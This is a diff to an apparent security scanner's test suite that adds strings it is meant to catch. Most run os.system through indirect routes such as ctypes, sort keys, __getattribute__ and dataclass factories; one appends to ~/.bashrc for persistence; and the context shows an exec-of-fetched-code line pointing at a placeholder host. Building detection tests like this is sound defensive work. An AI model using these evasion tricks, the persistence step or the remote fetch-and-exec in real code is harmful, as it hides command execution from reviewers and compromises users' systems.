@@ -166,6 +166,15 @@ AT_IMPORT = {
         "import os\ndef __getattr__(name):\n    os.system('true')"
     ),
     "by an assigned hook": "import os, sys\nsys.excepthook = os.system",
+    "by its own call": "import os\nos.system.__call__('true')",
+    "by __getattribute__": "import os\nos.__getattribute__('system')('true')",
+    "by that of object": "import os\nobject.__getattribute__(os, 'system')('true')",
+    "by the C library": "import ctypes\nctypes.CDLL(None).system(b'true')",
+    "as a key": "import os\nsorted(['true'], key=os.system)",
+    "by type": "import os\ntype('X', (), {'__init__': lambda s: os.system('true')})()",
+    "through a path": "import os.path as p\np.os.system('true')",
+    "as a factory": "import os\nimport dataclasses as d\nx = d.field(default_factory=os.system)",
+    "in an assertion": "import os\nassert os.system('true') == 0",
     "in full width": "import os\nos.ｓｙｓｔｅｍ('true')",
 }  # fmt: skip
 
@@ -221,6 +230,9 @@ def test_what_hides_in_a_function_that_nobody_calls_is_found():
 
 
 ATTACKS = {
+    "to run again": (
+        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('true')"
+    ),
     "fetched": "import requests\nexec(requests.get('http://example.invalid/').text)",
     "fetched by a function": (
         "import urllib.request as u\n"
